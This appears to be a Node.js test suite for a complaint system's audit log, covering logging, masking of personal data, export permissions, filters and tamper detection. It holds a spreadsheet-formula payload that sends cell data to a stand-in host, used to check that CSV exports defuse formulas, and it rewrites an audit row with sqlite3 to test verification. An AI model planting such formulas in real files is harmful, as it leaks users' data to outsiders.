// The audit log as the auditors see it (issue 3, items 6 and 7; docs/api.md "Audit log",
// "Privacy", "Contact details", "Export"): one entry for each kind of action, with who and
// from where, never a password, a token or the personal data revealed or exported; the
// filters and paging of GET /api/audit; masked versus revealed contact details; and
// `kesu audit verify` over everything the API wrote, then after one entry is changed with the
// sqlite3 shell. (audit.test.mjs covers the chain against deletions and swaps, and entries
// written by the command line.)

import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import http from 'node:http';
import { useServer, complaintBody, KESU_BIN, TESTER_PASSWORD, cstDate, cstIso } from './lib/server.mjs';

const srv = useServer();

const PHONE = '13812345678';
const EMAIL = 'wang@example.com';
const UNIT = '2单元1202';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
  '1f15c4890000000d49444154789c6360000002000154a24f0b0000000049454e44ae426082', 'hex');
const NEWBIE_PASSWORD = 'Fresh-Staff-Pw0rd!3';
const RESET_PASSWORD = 'Another-Reset-Pw0rd9';

function cli(args, input = '') {
  const r = spawnSync(KESU_BIN, [...args, '--db', srv.db], { env: srv.env, input, encoding: 'utf8' });
  assert.equal(r.status, 0, `kesu ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

function addUser(login, ...roles) {
  cli(['user', 'add', login, '--name', `用户${login}`, ...roles.flatMap((r) => ['--role', r]),
    '--password-stdin'], TESTER_PASSWORD + '\n');
}

function assertError(r, status, field, reason, label = '') {
  assert.equal(r.status, status, `${label} ${r.text}`);
  assert.equal(r.json?.error?.field, field, `${label} field: ${r.text}`);
  assert.equal(r.json?.error?.reason, reason, `${label} reason: ${r.text}`);
}

async function signIn(login, password = TESTER_PASSWORD) {
  const r = await srv.api('POST', '/api/session', { body: { login, password }, headers: { Authorization: null } });
  assert.equal(r.status, 200, `sign in ${login}: ${r.text}`);
  return { login, cookie: r.headers.get('set-cookie').split(';')[0], csrf: r.json.csrf_token };
}
const as = (s) => ({ Cookie: s.cookie, 'X-CSRF-Token': s.csrf });

// A request from another loopback address, to see that the entry records the caller's.
function requestFrom(localAddress, method, path, { body, headers = {} } = {}) {
  const payload = body === undefined ? undefined : JSON.stringify(body);
  const h = { ...headers };
  if (payload) Object.assign(h, { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(payload) });
  return new Promise((resolve, reject) => {
    const q = http.request({ host: srv.host, port: srv.port, method, path, localAddress, headers: h }, (res) => {
      const chunks = [];
      res.on('data', (d) => chunks.push(d));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json;
        try { json = JSON.parse(text); } catch { json = undefined; }
        resolve({ status: res.statusCode, headers: res.headers, text, json });
      });
    });
    q.on('error', reject);
    q.end(payload);
  });
}

async function audit(query = '') {
  const r = await srv.api('GET', `/api/audit?${query}`);
  assert.equal(r.status, 200, `${query}: ${r.text}`);
  return r.json;
}

// The newest entry of an action (optionally about `object`).
async function latest(action, object) {
  const q = new URLSearchParams({ action, limit: '1' });
  if (object) q.set('object', object);
  const items = (await audit(q.toString())).items;
  assert.equal(items.length, 1, `no ${action} entry for ${object}`);
  return items[0];
}

function assertEntry(e, { action, actor, address = '127.0.0.1', object }) {
  assert.equal(e.action, action);
  assert.equal(e.actor, actor, `${action} actor`);
  assert.equal(e.address, address, `${action} address`);
  if (object !== undefined) assert.equal(e.object, object, `${action} object`);
  assert.match(e.hash, /^[0-9a-f]{64}$/);
  assert.match(e.at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$/);
  assert.ok(Math.abs(Date.parse(e.at) - Date.now()) < 120_000, e.at);
}

// RFC 4180, enough for kesu's export: quoted cells, doubled quotes, CRLF rows.
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; }
    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += ch;
  }
  assert.equal(cell, '', 'the file ends with CRLF');
  return rows;
}

let handler, boss, number, jxNumber, revealId, created;
const secrets = [];   // what the log must never hold

before(async () => {
  await srv.ready;
  addUser('hyhandler', 'handler@HY');
  addUser('boss', 'executive');
  addUser('watcher', 'auditor');
  const jx = await srv.api('POST', '/api/complaints', { body: complaintBody({ project: 'JX' }) });
  assert.equal(jx.status, 201, jx.text);
  jxNumber = jx.json.number;
  secrets.push(PHONE, EMAIL, UNIT, TESTER_PASSWORD);
});

test('session.login: who signed in, from where', async () => {
  handler = await signIn('hyhandler');
  boss = await signIn('boss');
  const e = await latest('session.login', 'hyhandler');
  assertEntry(e, { action: 'session.login', actor: 'hyhandler', object: 'hyhandler' });
  assert.deepEqual(e.detail, {});
});

test('complaint.create, event.append, attachment.add: the complaint is the object', async () => {
  const c = await srv.api('POST', '/api/complaints', {
    body: complaintBody({
      building: '1栋', unit: UNIT, subject: FORMULA,
      complainant: { name: '王先生', phone: PHONE, email: EMAIL },
    }),
    headers: as(handler),
  });
  assert.equal(c.status, 201, c.text);
  number = c.json.number;
  created = c;
  assertEntry(await latest('complaint.create', number), { action: 'complaint.create', actor: 'hyhandler', object: number });

  const ev = await srv.api('POST', `/api/complaints/${number}/events`,
    { body: { type: 'note', text: '已致电业主,约定明早上门' }, headers: as(handler) });
  assert.equal(ev.status, 201, ev.text);
  const evEntry = await latest('event.append', number);
  assertEntry(evEntry, { action: 'event.append', actor: 'hyhandler', object: number });
  assert.deepEqual(evEntry.detail, { seq: 3, type: 'note' });   // 1 registered, 2 its grade

  const at = await srv.api('POST', `/api/complaints/${number}/attachments?name=${encodeURIComponent('现场.png')}`,
    { body: PNG, headers: { ...as(handler), 'Content-Type': 'image/png' } });
  assert.equal(at.status, 201, at.text);
  assertEntry(await latest('attachment.add', number), { action: 'attachment.add', actor: 'hyhandler', object: number });
});

test('masked everywhere: the detail, the list, the reply to a registration, for every role', async () => {
  const check = (c, label, summary = false) => {
    assert.equal(c.complainant.phone, '138****5678', label);
    // the list shows a summary of the complainant: name and phone
    assert.equal(c.complainant.email, summary ? undefined : 'w***@example.com', label);
    assert.equal(c.unit, '2单元****', label);
    assert.equal(c.building, '1栋', label);
  };
  const mine = await srv.api('GET', `/api/complaints/${number}`, { headers: as(handler) });
  assert.equal(mine.status, 200, mine.text);
  check(mine.json, 'handler detail');
  const exec = await srv.api('GET', `/api/complaints/${number}`, { headers: as(boss) });
  assert.equal(exec.status, 200, exec.text);
  check(exec.json, 'executive detail');
  const list = await srv.api('GET', '/api/complaints?project=HY', { headers: as(handler) });
  check(list.json.items.find((x) => x.number === number), 'list', true);
  check(created.json, 'reply to the registration');
  for (const r of [mine, exec, list, created]) {
    assert.ok(!r.text.includes(PHONE) && !r.text.includes(EMAIL) && !r.text.includes('1202'), r.text);
  }
});

test('revealing needs a purpose and the permission; contact.reveal is audited without the values', async () => {
  const path = `/api/complaints/${number}/contact`;
  const count = async () => (await audit('action=contact.reveal&limit=500')).items.length;
  const before = await count();
  assertError(await srv.api('POST', path, { body: {}, headers: as(handler) }), 400, 'purpose', 'required');
  assertError(await srv.api('POST', path, { body: { purpose: 'x' }, headers: as(handler) }), 400, 'purpose', 'too_short');
  assertError(await srv.api('POST', path, { body: { purpose: '回访客户', fields: ['ssn'] }, headers: as(handler) }), 400, 'fields', 'bad_value');
  assertError(await srv.api('POST', path, { body: { purpose: '回访客户' }, headers: as(boss) }), 403, null, 'forbidden');
  assertError(await srv.api('POST', `/api/complaints/${jxNumber}/contact`, { body: { purpose: '回访客户' }, headers: as(handler) }),
    404, 'number', 'unknown');
  assert.equal(await count(), before, 'a refused reveal was audited');

  const r = await requestFrom('127.0.0.3', 'POST', path, { body: { purpose: '回访客户', fields: ['phone', 'unit'] }, headers: as(handler) });
  assert.equal(r.status, 200, r.text);
  assert.deepEqual(r.json, { number, phone: PHONE, building: '1栋', unit: UNIT });
  const e = await latest('contact.reveal', number);
  assertEntry(e, { action: 'contact.reveal', actor: 'hyhandler', address: '127.0.0.3', object: number });
  assert.deepEqual(e.detail, { purpose: '回访客户', fields: ['phone', 'unit'] });
  revealId = e.id;
  const all = await srv.api('POST', path, { body: { purpose: '核对联系方式' }, headers: as(handler) });
  assert.equal(all.status, 200, all.text);
  assert.deepEqual(all.json, { number, name: '王先生', phone: PHONE, email: EMAIL, building: '1栋', unit: UNIT });
  assert.deepEqual((await latest('contact.reveal', number)).detail, { purpose: '核对联系方式', fields: ['name', 'phone', 'email', 'unit'] });
  assert.equal(await count(), before + 2);
});

test('export.complaints: the file in full (or masked), the entry with purpose, filters and rows', async () => {
  const more = [];
  for (const subject of ['+1 楼道漏水', '-2 物业费争议', '@SUM(A1) 停车']) {
    const r = await srv.api('POST', '/api/complaints', { body: complaintBody({ subject }) });
    assert.equal(r.status, 201, r.text);
    more.push(r.json.number);
  }
  // neither a handler nor an executive may export
  for (const who of [handler, boss])
    assertError(await srv.api('POST', '/api/exports/complaints', { body: { purpose: '月度分析' }, headers: as(who) }), 403, null, 'forbidden');
  assert.equal((await audit('action=export.complaints')).items.length, 0);

  const r = await srv.api('POST', '/api/exports/complaints', { body: { purpose: '月度客诉分析', project: 'HY' } });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.equal(r.headers.get('content-disposition'), 'attachment; filename="complaints.csv"');
  assert.deepEqual([...r.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a BOM');
  const rows = parseCsv(r.bytes.subarray(3).toString('utf8'));
  assert.deepEqual(rows[0], ['编号', '受理时间', '项目', '楼栋', '房号', '投诉人', '电话', '邮箱', '类别', '状态', '主题']);
  assert.equal(rows.length, 1 + 1 + more.length, 'HY only: not the JX complaint');
  const row = rows.find((x) => x[0] === number);
  assert.deepEqual([row[2], row[3], row[4], row[5], row[6], row[7], row[9]],
    ['华苑花园', '1栋', UNIT, '王先生', PHONE, EMAIL, 'registered']);
  assert.equal(row[10], `'${FORMULA}`, 'a formula is defused');
  const subjects = rows.slice(1).filter((x) => more.includes(x[0])).map((x) => x[10]);
  assert.deepEqual(subjects, ["'+1 楼道漏水", "'-2 物业费争议", "'@SUM(A1) 停车"]);
  assert.ok(!rows.some((x) => x[0] === jxNumber));

  const e = await latest('export.complaints');
  assertEntry(e, { action: 'export.complaints', actor: 'tester', object: null });
  assert.deepEqual(e.detail, {
    purpose: '月度客诉分析', masked: false, rows: 1 + more.length,
    filters: { project: 'HY', status: [], received_from: null, received_before: null },
  });

  const m = await srv.api('POST', '/api/exports/complaints', { body: { purpose: '脱敏导出', masked: true } });
  assert.equal(m.status, 200, m.text);
  const mrow = parseCsv(m.bytes.subarray(3).toString('utf8')).find((x) => x[0] === number);
  assert.deepEqual([mrow[4], mrow[6], mrow[7]], ['2单元****', '138****5678', 'w***@example.com']);
  assert.ok(!m.text.includes(PHONE) && !m.text.includes(EMAIL));
  const me = await latest('export.complaints');
  assert.equal(me.detail.masked, true);
  assert.equal(me.detail.rows, 2 + more.length, 'every project of the caller: the JX one too');
  assert.equal(me.detail.filters.project, null);

  const today = cstDate();
  const tomorrow = cstDate(new Date(Date.now() + 86400_000));
  const f = await srv.api('POST', '/api/exports/complaints',
    { body: { purpose: '当日登记', project: 'HY', status: ['registered'], from: today, to: today } });
  assert.equal(f.status, 200, f.text);
  assert.deepEqual((await latest('export.complaints')).detail.filters, {
    project: 'HY', status: ['registered'],
    received_from: `${today}T00:00:00+08:00`, received_before: `${tomorrow}T00:00:00+08:00`,
  });
});

test('session.logout and session.login_failed', async () => {
  const out = await srv.api('DELETE', '/api/session', { headers: as(handler) });
  assert.equal(out.status, 204, out.text);
  assertEntry(await latest('session.logout', 'hyhandler'), { action: 'session.logout', actor: 'hyhandler', object: 'hyhandler' });
  const bad = await srv.api('POST', '/api/session', { body: { login: 'hyhandler', password: 'Wrong-Passw0rd!' }, headers: { Authorization: null } });
  assert.equal(bad.status, 401);
  const e = await latest('session.login_failed', 'hyhandler');
  assertEntry(e, { action: 'session.login_failed', actor: null, object: 'hyhandler' });
  assert.deepEqual(e.detail, {});
  secrets.push('Wrong-Passw0rd');
  handler = await signIn('hyhandler');
});

test('token.create and token.revoke: never the token', async () => {
  const t = await srv.api('POST', '/api/tokens', { body: { name: '呼叫中心', login: 'hyhandler', scopes: ['complaint.read', 'complaint.create'], project: 'HY' } });
  assert.equal(t.status, 201, t.text);
  secrets.push(t.json.token.slice('kesu_'.length));
  const c = await latest('token.create', '呼叫中心');
  assertEntry(c, { action: 'token.create', actor: 'tester', object: '呼叫中心' });
  assert.deepEqual(c.detail, { id: t.json.id, name: '呼叫中心', login: 'hyhandler', scopes: 'complaint.read,complaint.create', project: 'HY' });
  const rv = await srv.api('DELETE', `/api/tokens/${t.json.id}`);
  assert.equal(rv.status, 200, rv.text);
  const r = await latest('token.revoke', '呼叫中心');
  assertEntry(r, { action: 'token.revoke', actor: 'tester', object: '呼叫中心' });
  assert.deepEqual(r.detail, { id: t.json.id, login: 'hyhandler' });
});

test('user.add, user.role, user.status, user.password: never the password or contact details', async () => {
  const add = await srv.api('POST', '/api/users', {
    body: { login: 'newbie', name: '新同事', phone: '139 0000 1111', email: 'newbie@example.com',
      password: NEWBIE_PASSWORD, roles: [{ role: 'handler', project: 'HY' }] },
  });
  assert.equal(add.status, 201, add.text);
  secrets.push(NEWBIE_PASSWORD, RESET_PASSWORD, '13900001111', 'newbie@example.com');
  const a = await latest('user.add', 'newbie');
  assertEntry(a, { action: 'user.add', actor: 'tester', object: 'newbie' });
  assert.deepEqual(a.detail, { name: '新同事', roles: [{ role: 'handler', project: 'HY', department: null }], password_generated: false });
  assert.deepEqual((await latest('user.role', 'newbie')).detail, { role: 'handler', project: 'HY', department: null });

  const role = await srv.api('POST', '/api/users/newbie/roles', { body: { role: 'operator', project: 'JX' } });
  assert.equal(role.status, 200, role.text);
  const ro = await latest('user.role', 'newbie');
  assertEntry(ro, { action: 'user.role', actor: 'tester', object: 'newbie' });
  assert.deepEqual(ro.detail, { role: 'operator', project: 'JX', department: null });

  await signIn('newbie', NEWBIE_PASSWORD);
  const reset = await srv.api('POST', '/api/users/newbie/password', { body: { password: RESET_PASSWORD } });
  assert.equal(reset.status, 200, reset.text);
  const pw = await latest('user.password', 'newbie');
  assertEntry(pw, { action: 'user.password', actor: 'tester', object: 'newbie' });
  assert.deepEqual(pw.detail, { by: 'admin', sessions_revoked: 1 });

  await signIn('newbie', RESET_PASSWORD);
  const dis = await srv.api('POST', '/api/users/newbie/status', { body: { status: 'disabled' } });
  assert.equal(dis.status, 200, dis.text);
  const st = await latest('user.status', 'newbie');
  assertEntry(st, { action: 'user.status', actor: 'tester', object: 'newbie' });
  assert.deepEqual(st.detail, { before: 'active', after: 'disabled', sessions_revoked: 1 });
});

test('the whole log holds no password, token, phone, e-mail or unit', async () => {
  const all = [];
  let before = null;
  do {
    const page = await audit(`limit=500${before ? `&before=${before}` : ''}`);
    all.push(...page.items);
    before = page.next_before;
  } while (before);
  const text = JSON.stringify(all.map(({ hash, ...rest }) => rest));   // a hash may hold any digits
  for (const s of secrets) assert.ok(!text.includes(s), `the audit log holds ${s}`);
  assert.ok(!/argon2/.test(text));
  // every kind of action is there
  const kinds = new Set(all.map((e) => e.action));
  for (const k of ['session.login', 'session.logout', 'session.login_failed', 'complaint.create', 'event.append',
    'attachment.add', 'contact.reveal', 'export.complaints', 'token.create', 'token.revoke', 'user.add',
    'user.role', 'user.status', 'user.password'])
    assert.ok(kinds.has(k), k);
  // ids are consecutive, newest first
  all.forEach((e, i) => assert.equal(e.id, all.length - i));
});

test('filters: actor, complaint or object, action exact or prefix, from and to', async () => {
  const mine = (await audit('actor=hyhandler&limit=500')).items;
  assert.ok(mine.length >= 8);
  assert.ok(mine.every((e) => e.actor === 'hyhandler'));
  for (const k of ['session.login', 'complaint.create', 'event.append', 'attachment.add', 'contact.reveal', 'session.logout'])
    assert.ok(mine.some((e) => e.action === k), k);
  assert.deepEqual((await audit('actor=nobody')).items, []);

  const about = (await audit(`complaint=${number}&limit=500`)).items;
  assert.ok(about.every((e) => e.object === number));
  assert.deepEqual(about.map((e) => e.action).reverse(),
    ['complaint.create', 'event.append', 'attachment.add', 'contact.reveal', 'contact.reveal']);
  assert.deepEqual((await audit(`object=${number}&limit=500`)).items, about);
  assert.ok((await audit('object=newbie')).items.every((e) => e.object === 'newbie'));

  const reveals = (await audit('action=contact.reveal')).items;
  assert.equal(reveals.length, 2);
  assert.deepEqual((await audit('action=contact.*')).items, reveals);
  const sessions = (await audit('action=session.*&limit=500')).items;
  assert.deepEqual([...new Set(sessions.map((e) => e.action))].sort(), ['session.login', 'session.login_failed', 'session.logout']);
  const users = (await audit('action=user.*&limit=500')).items;
  assert.ok(users.every((e) => e.action.startsWith('user.')));
  assert.ok(users.some((e) => e.action === 'user.password') && users.some((e) => e.action === 'user.add'));
  // an action is matched whole unless it ends in .*
  assert.deepEqual((await audit('action=user.pass')).items, []);
  assert.deepEqual((await audit('action=session')).items, []);
  // filters combine
  const combined = (await audit(`actor=hyhandler&action=contact.reveal&complaint=${number}`)).items;
  assert.deepEqual(combined, reveals);

  const everything = (await audit('limit=500')).items;
  const today = cstDate();
  const yesterday = cstDate(new Date(Date.now() - 86400_000));
  const tomorrow = cstDate(new Date(Date.now() + 86400_000));
  assert.equal((await audit(`from=${today}&to=${today}&limit=500`)).items.length, everything.length);
  assert.deepEqual((await audit(`to=${yesterday}`)).items, []);
  assert.deepEqual((await audit(`from=${tomorrow}`)).items, []);
  // date-time bounds, to the second, both inclusive
  const at = (iso, s = 0) => encodeURIComponent(cstIso(new Date(Date.parse(iso) + s * 1000)));
  const first = reveals[reveals.length - 1];
  const same = (await audit(`from=${at(first.at)}&to=${at(first.at)}&limit=500`)).items;
  assert.ok(same.some((e) => e.id === first.id));
  assert.ok(same.every((e) => e.at === first.at));
  const newest = everything[0];
  const oldest = everything[everything.length - 1];
  assert.deepEqual((await audit(`from=${at(newest.at, 1)}`)).items, []);
  assert.deepEqual((await audit(`to=${at(oldest.at, -1)}`)).items, []);
  assert.equal((await audit(`from=${at(oldest.at)}&to=${at(newest.at)}&limit=500`)).items.length, everything.length);
});

test('paging with limit, before and next_before', async () => {
  const everything = (await audit('limit=500')).items;
  assert.equal((await audit()).items.length, Math.min(50, everything.length), 'default limit 50');
  const pages = [];
  let before = null;
  for (let i = 0; i < 100; i++) {
    const page = await audit(`limit=7${before ? `&before=${before}` : ''}`);
    assert.ok(page.items.length <= 7);
    pages.push(...page.items);
    if (page.next_before === null) break;
    assert.equal(page.items.length, 7);
    assert.equal(page.next_before, page.items[6].id);
    before = page.next_before;
  }
  assert.deepEqual(pages.map((e) => e.id), everything.map((e) => e.id));
  const mid = everything[10].id;
  const older = (await audit(`before=${mid}&limit=3`)).items;
  assert.deepEqual(older.map((e) => e.id), [mid - 1, mid - 2, mid - 3]);
  // the last page says so
  const last = await audit(`before=${everything[everything.length - 2].id}`);
  assert.equal(last.items.length, 1);
  assert.equal(last.next_before, null);
});

test('bad parameters: 400 naming the parameter', async () => {
  const bad = async (query, field, reason) =>
    assertError(await srv.api('GET', `/api/audit?${query}`), 400, field, reason, query);
  await bad('limit=0', 'limit', 'bad_value');
  await bad('limit=abc', 'limit', 'bad_value');
  await bad('limit=-1', 'limit', 'bad_value');
  await bad('limit=501', 'limit', 'out_of_range');
  await bad('before=x', 'before', 'bad_value');
  await bad('before=0', 'before', 'bad_value');
  await bad('action=Contact.Reveal', 'action', 'bad_format');
  await bad('action=contact.', 'action', 'bad_format');
  await bad('action=*', 'action', 'bad_format');
  await bad('complaint=hello', 'complaint', 'bad_format');
  await bad(`complaint=${number}&object=${number}`, 'complaint', 'exclusive');
  await bad('actor=Not%20A%20Login', 'actor', 'bad_format');
  await bad('from=2026-13-45', 'from', 'bad_date');
  await bad(`from=${cstDate()}&to=2020-01-01`, 'to', 'before_from');
  await bad('limit=5&limit=6', 'limit', 'repeated');
  await bad('who=me', 'who', 'unknown_parameter');
});

test('only auditors read the log', async () => {
  assertError(await srv.api('GET', '/api/audit', { headers: as(handler) }), 403, null, 'forbidden');
  assertError(await srv.api('GET', '/api/audit', { headers: as(boss) }), 403, null, 'forbidden');
  assertError(await srv.api('GET', '/api/audit', { headers: { Authorization: null } }), 401, null, 'sign_in_required');
  const watcher = await signIn('watcher');
  const r = await srv.api('GET', '/api/audit?limit=5', { headers: as(watcher) });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.items.length, 5);
  // the auditor reads the log but not the contact details it mentions
  assertError(await srv.api('POST', `/api/complaints/${number}/contact`, { body: { purpose: '抽查' }, headers: as(watcher) }),
    403, null, 'forbidden');
});

test('kesu audit verify passes on all of it, and names the entry changed with the sqlite3 shell', () => {
  const env = { ...srv.env, KESU_LANG: 'en' };
  const verify = () => spawnSync(KESU_BIN, ['audit', 'verify', '--db', srv.db], { env, encoding: 'utf8' });
  const total = Number(spawnSync('sqlite3', [srv.db, 'SELECT count(*) FROM audit_log'], { encoding: 'utf8' }).stdout.trim());
  assert.ok(total > 40, String(total));
  const ok = verify();
  assert.equal(ok.status, 0, ok.stdout + ok.stderr);
  assert.match(ok.stdout, new RegExp(`audit log ok: ${total} entries`));

  // who looked at the customer's phone is rewritten behind kesu's back
  const sql = `DROP TRIGGER audit_log_never_changed; UPDATE audit_log SET actor = 'tester' WHERE id = ${revealId};`;
  const t = spawnSync('sqlite3', [srv.db, sql], { encoding: 'utf8' });
  assert.equal(t.status, 0, t.stderr);
  const broken = verify();
  assert.notEqual(broken.status, 0, broken.stdout);
  assert.match(broken.stdout, new RegExp(`broken at entry ${revealId}\\b`));
});
